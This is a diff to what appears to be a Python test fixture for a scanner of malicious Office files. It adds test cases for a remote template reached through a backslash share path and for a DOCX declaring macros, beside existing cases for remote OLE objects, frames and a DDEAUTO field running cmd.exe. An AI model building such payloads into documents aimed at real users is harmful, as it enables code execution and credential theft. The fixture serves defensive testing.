@@ -215,6 +215,8 @@ RUNNING: dict[str, tuple[bytes, str]] = {
     "DOCX letters merged with a table on a share": (relation("mailMergeSource", "file://x.example/a.xlsx"), ".docx"),
     "DOCX transformed by a page": (relation("transform", "https://x.example/a.xsl"), ".docx"),
     "DOCX template on a share": (relation("attachedTemplate", "file://x.example/a.dotm"), ".docx"),
+    "DOCX template on a share by backslashes": (relation("attachedTemplate", "file:///\\\\x.example\\a.dotm"), ".docx"),
+    "DOCX that says it has macros": (archive({"[Content_Types].xml": "word.document.macroEnabled.main+xml", "word/document.xml": "<w/>"}), ".docx"),
     "DOCX remote object": (relation("oleObject", "http://x.example/a"), ".docx"),
     "DOCX remote frame": (relation("frame", "http://x.example/a"), ".docx"),
     "DOCX DDE": (docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), ".docx"),
